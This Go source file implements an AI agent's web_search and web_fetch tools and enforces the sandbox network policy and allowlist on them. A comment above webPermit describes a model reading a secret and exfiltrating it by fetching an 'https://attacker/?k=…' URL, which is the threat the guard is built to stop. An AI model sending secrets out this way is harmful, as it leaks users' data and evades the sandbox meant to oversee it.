package tools

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/url"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"

	"github.com/pigo-agent/pigo/internal/llm"
	"github.com/pigo-agent/pigo/internal/sandbox"
	"github.com/pigo-agent/pigo/internal/toolrun"
	"github.com/pigo-agent/pigo/internal/web"
)

// The web toolset: the seed's web_search (Search1API) and web_fetch (internal/web does the
// network side), with the seed's texts.
func init() {
	Register("web", "web_search", toolrun.Impl{Execute: webSearch})
	Register("web", "web_fetch", toolrun.Impl{Execute: webFetch})
}

// newWebClient builds the client of one call: the proxy from <agentDir>/proxy.json or the
// environment. Tests replace it to opt their loopback servers in.
var newWebClient = func(s *toolrun.Session) (*web.Client, error) {
	p, err := web.ReadProxy(filepath.Join(s.AgentDir, "proxy.json"), os.Getenv)
	if err != nil {
		return nil, err
	}
	return web.New(web.Options{Proxy: p}), nil
}

// webPermit is the network policy the web tools follow, the one bash runs under (the
// session's sandbox network.mode and allowlist): "allow-all" lets every URL through (the
// SSRF guard still applies), "limited" only hosts the allowlist permits (checked on the
// first URL and every redirect hop), "block" refuses the call before anything is fetched.
// A policy that could not be read refuses too (fail closed). The seed's web tools ignore
// the policy, so a model could read a secret and then fetch https://attacker/?k=… in any
// mode; pigo's refusal names the policy and where it was set.
func webPermit(tool string, s *toolrun.Session) (func(u *url.URL) error, error) {
	if s.SandboxErr != nil {
		return nil, &toolrun.Refusal{Kind: toolrun.RefusedPolicy, Text: tool + " is refused: the sandbox policy could not be read (" + s.SandboxErr.Error() + "); the web tools follow its network.mode."}
	}
	p := s.Sandbox
	where := "the default"
	if o := p.NetModeOrigin; o.File != "" {
		where = o.File
		if o.Line > 0 {
			where = fmt.Sprintf("%s:%d:%d", o.File, o.Line, o.Column)
		}
	}
	switch p.NetMode {
	case sandbox.NetAllowAll:
		return nil, nil
	case sandbox.NetLimited:
		return func(u *url.URL) error {
			port, _ := strconv.Atoi(u.Port())
			if port == 0 {
				port = map[string]int{"https": 443}[strings.ToLower(u.Scheme)]
				if port == 0 {
					port = 80
				}
			}
			if sandbox.AllowlistPermits(p.Allowlist, u.Hostname(), port) {
				return nil
			}
			return &toolrun.Refusal{Kind: toolrun.RefusedPolicy, Text: fmt.Sprintf(
				"%s is refused: %s is not in network.allowlist (network.mode \"limited\", set by %s); the web tools follow the sandbox's network policy as bash does.",
				tool, u.Host, where)}
		}, nil
	}
	mode := p.NetMode
	if mode == "" {
		mode = "unknown"
	}
	return nil, &toolrun.Refusal{Kind: toolrun.RefusedPolicy, Text: fmt.Sprintf(
		"%s is refused: network.mode is %q (set by %s), and the web tools follow the sandbox's network policy as bash does. "+
			"To let it reach a host, set network.mode to \"limited\" with the host in network.allowlist, or to \"allow-all\".",
		tool, mode, where)}
}

// asRefusal is err's refusal, nil when it is not one.
func asRefusal(err error) *toolrun.Refusal {
	var r *toolrun.Refusal
	if errors.As(err, &r) {
		return r
	}
	return nil
}

// webJSON is JSON.stringify(v, null, 2) with JavaScript's string escapes.
func webJSON(v any) string {
	var b bytes.Buffer
	enc := json.NewEncoder(&b)
	enc.SetEscapeHTML(false)
	if err := enc.Encode(v); err != nil {
		return err.Error()
	}
	js, err := llm.JSONStringify(b.Bytes())
	if err != nil {
		return err.Error()
	}
	var out bytes.Buffer
	if err := json.Indent(&out, js, "", "  "); err != nil {
		return string(js)
	}
	return out.String()
}

// errDetails is an error result with the seed's details object.
func errDetails(text string, details any) toolrun.Result {
	r := toolrun.TextResult(text, details)
	r.IsError = true
	return r
}

// Search1APIKey is the seed's loadSearch1ApiKey: SEARCH1API_KEY when set, else
// search1apiApiKey of ~/.pi/web-search.json (trimmed); a missing or bad file is no key.
func Search1APIKey() string {
	if k := os.Getenv("SEARCH1API_KEY"); k != "" {
		return k
	}
	home, err := os.UserHomeDir()
	if err != nil {
		return ""
	}
	raw, err := os.ReadFile(filepath.Join(home, ".pi", "web-search.json"))
	if err != nil {
		return ""
	}
	var f map[string]any
	if json.Unmarshal(raw, &f) != nil {
		return ""
	}
	v, ok := f["search1apiApiKey"]
	if !ok {
		return ""
	}
	s, ok := v.(string)
	if !ok {
		return ""
	}
	return strings.TrimSpace(s)
}

// The seed's web_search texts.
const (
	TextSearchNoQuery  = "需要提供 query 或 queries（至少一个搜索词）。"
	TextSearchNoKey    = "未找到 Search1API key：请在 ~/.pi/web-search.json 配置 search1apiApiKey，或设置 SEARCH1API_KEY 环境变量。"
	TextSearchNoResult = "没有找到结果。"
)

func webSearch(ctx context.Context, inv *toolrun.Invocation) (toolrun.Result, error) {
	var a struct {
		Query          string   `json:"query"`
		Queries        []string `json:"queries"`
		NumResults     *float64 `json:"numResults"`
		RecencyFilter  string   `json:"recencyFilter"`
		DomainFilter   []string `json:"domainFilter"`
		SearchService  string   `json:"searchService"`
		IncludeContent bool     `json:"includeContent"`
	}
	if err := inv.Decode(&a); err != nil {
		return toolrun.Result{}, err
	}
	var queries []string
	for _, q := range append([]string{a.Query}, a.Queries...) {
		if q = strings.TrimFunc(q, isJSSpaceRune); q != "" && len(queries) < 4 {
			queries = append(queries, q)
		}
	}
	if len(queries) == 0 {
		return errDetails(TextSearchNoQuery, map[string]any{"error": "no query"}), nil
	}
	permit, err := webPermit("web_search", inv.Session)
	if err != nil {
		return toolrun.Result{}, err
	}
	key := Search1APIKey()
	if key == "" {
		return errDetails(TextSearchNoKey, map[string]any{"error": "search1api key not configured"}), nil
	}
	fail := func(err error) toolrun.Result {
		return errDetails("搜索失败: "+err.Error(), map[string]any{"error": err.Error()})
	}
	c, err := newWebClient(inv.Session)
	if err != nil {
		return fail(err), nil
	}
	c.SetPermit(permit)
	inv.Progress(toolrun.TextResult("正在搜索: "+strings.Join(queries, " / "), map[string]any{}))
	opts := web.SearchOptions{NumResults: a.NumResults, RecencyFilter: a.RecencyFilter, DomainFilter: a.DomainFilter,
		SearchService: a.SearchService, IncludeContent: a.IncludeContent}
	results := make([][]web.Hit, len(queries))
	errs := make([]error, len(queries))
	var wg sync.WaitGroup
	for i, q := range queries {
		wg.Add(1)
		go func() {
			defer wg.Done()
			results[i], errs[i] = c.Search(ctx, q, key, opts)
		}()
	}
	wg.Wait()
	for _, err := range errs { // Promise.all rejects with the first query's error in order
		if refused := asRefusal(err); refused != nil {
			return toolrun.Result{}, refused
		}
		if err != nil {
			return fail(err), nil
		}
	}
	seen := map[string]bool{}
	hits := []web.Hit{}
	for _, r := range results {
		for _, h := range r {
			if !seen[h.URL] {
				seen[h.URL] = true
				hits = append(hits, h)
			}
		}
	}
	if len(hits) == 0 {
		return toolrun.TextResult(TextSearchNoResult, map[string]any{"query": queries, "count": 0}), nil
	}
	return toolrun.TextResult(webJSON(hits), struct {
		Query    []string  `json:"query"`
		Provider string    `json:"provider"`
		Count    int       `json:"count"`
		Results  []web.Hit `json:"results"`
	}{queries, "search1api", len(hits), hits}), nil
}

func isJSSpaceRune(r rune) bool {
	switch r {
	case '\t', '\n', '\v', '\f', '\r', ' ', 0xa0, 0x1680, 0x2028, 0x2029, 0x202f, 0x205f, 0x3000, 0xfeff:
		return true
	}
	return r >= 0x2000 && r <= 0x200a
}

func webFetch(ctx context.Context, inv *toolrun.Invocation) (toolrun.Result, error) {
	var a struct {
		URL        string  `json:"url"`
		OutputPath *string `json:"output_path"`
	}
	if err := inv.Decode(&a); err != nil {
		return toolrun.Result{}, err
	}
	s := inv.Session
	fail := func(err error) toolrun.Result {
		return errDetails("抓取失败: "+err.Error(), map[string]any{"error": err.Error(), "url": a.URL})
	}
	// The network policy first: refused, nothing is fetched and no file is touched.
	permit, err := webPermit("web_fetch", s)
	if err != nil {
		return toolrun.Result{}, err
	}
	if u, err := url.Parse(a.URL); err == nil && permit != nil && u.Host != "" {
		if err := permit(u); err != nil {
			return toolrun.Result{}, err
		}
	}
	if a.OutputPath != nil {
		dest := ResolvePath(*a.OutputPath, s.Cwd)
		// The write path as for the file tools, guarded before the download (the content is
		// not known yet, so the dialog shows the path only): the target is resolved and held
		// from then on, and the body streams into a file beside it that takes its name at
		// the end. A refusal is not a fetch failure.
		pw, err := s.PrepareWrite(ctx, toolrun.FileWrite{Tool: "web_fetch", Path: dest,
			ReadError: func(error) error { return nil },
			Update:    func(old []byte, _ bool) ([]byte, error) { return old, nil }})
		if err != nil {
			return toolrun.Result{}, fsError(err)
		}
		c, err := newWebClient(s)
		if err != nil {
			pw.Release()
			return fail(err), nil
		}
		c.SetPermit(permit)
		var f *web.Saved
		_, err = pw.CommitStream(ctx, func(w io.Writer) error {
			var err error
			f, err = c.Save(ctx, a.URL, w)
			return err
		})
		if refused := asRefusal(err); refused != nil {
			return toolrun.Result{}, refused
		}
		if err != nil {
			if f == nil {
				return fail(err), nil
			}
			return toolrun.Result{}, fsError(err)
		}
		payload := struct {
			URL         string `json:"url"`
			FilePath    string `json:"file_path"`
			ContentType string `json:"content_type"`
			Bytes       int64  `json:"bytes"`
		}{f.URL, dest, f.ContentType, f.Bytes}
		return toolrun.TextResult(webJSON(payload), payload), nil
	}
	c, err := newWebClient(s)
	if err != nil {
		return fail(err), nil
	}
	c.SetPermit(permit)
	page, err := c.Fetch(ctx, a.URL)
	if refused := asRefusal(err); refused != nil {
		return toolrun.Result{}, refused
	}
	if err != nil {
		return fail(err), nil
	}
	text, truncated := web.TruncateMarkdown(page.Markdown)
	return toolrun.TextResult(text, struct {
		URL       string `json:"url"`
		Title     string `json:"title"`
		Bytes     int    `json:"bytes"`
		Truncated bool   `json:"truncated"`
	}{page.URL, page.Title, len(page.Markdown), truncated}), nil
}
